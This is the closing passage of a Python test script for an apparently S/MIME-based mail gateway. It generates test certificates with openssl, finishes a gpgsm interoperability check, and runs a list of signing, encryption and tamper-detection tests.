        r = gpgsm(home, "--encrypt", "--recipient", "ann_rsa", "--base64", data=SEVEN)
        assert r.returncode == 0, r.stderr
        body = b"".join(x for x in r.stdout.splitlines(True) if not x.startswith(b"-----"))
        back = incoming(mail_of(b"Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
                                crlf(body)), key="ann_rsa.pem")
        assert without_mark(back.mail) == FROM_BOB + b"MIME-Version: 1.0\r\n" + SEVEN, (back.facts, back.mail)
    finally:
        subprocess.run(["gpgconf", "--homedir", home, "--kill", "all"], capture_output=True, timeout=30)


def main():
    make_authority()
    make_person("ann", "ann@example.org")
    make_person("ann_rsa", "ann@example.org", "rsa")
    make_person("bob", "bob@partner.example")
    make_person("carl", "carl@partner.example", "rsa")
    make_person("dora", "dora@example.org")
    make_person("eve", "eve@evil.example")
    openssl("req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-keyout", "lone.key",
            "-out", "lone.crt", "-days", "3650", "-subj", "/CN=lone", "-addext", "subjectAltName=email:bob@partner.example",
            "-addext", "keyUsage=digitalSignature,keyAgreement", "-addext", "basicConstraints=CA:FALSE")
    for test in (unchanged_mails_are_the_same_to_the_octet, a_signed_mail_keeps_its_octets, layers_come_off_in_any_nesting,
                 more_layers_than_eight_stay, the_type_is_told_by_its_octets, what_cannot_be_opened_passes_as_it_came,
                 nobody_reads_what_was_encrypted_to_others, an_opened_part_brings_no_header_along,
                 text_without_a_header_is_text, only_a_signature_that_covers_all_counts,
                 nothing_around_a_ciphertext_is_merged_with_it, cbc_that_nobody_signed_is_told_apart,
                 a_changed_ciphertext_shows_its_octets, forged_marks_are_gone_before_ours_come,
                 the_mail_survives_sign_and_encrypt, a_signed_mail_is_of_seven_bits,
                 rsa_keys_sign_as_the_policy_says, each_cipher_is_read_by_openssl,
                 whom_the_header_does_not_name_gets_a_ciphertext_of_his_own, without_a_certificate_must_never_passes_plain,
                 triggers_ask_and_are_taken_out, an_answer_to_what_was_decrypted_is_encrypted_or_stays,
                 what_is_encrypted_or_signed_already_is_not_done_again, a_key_signs_for_its_own_address_alone,
                 gpgsm_opens_what_we_send_and_we_what_it_sends):
        start = time.monotonic()
        test()
        print(f"ok {test.__name__} ({time.monotonic() - start:.1f} s)", flush=True)


main()
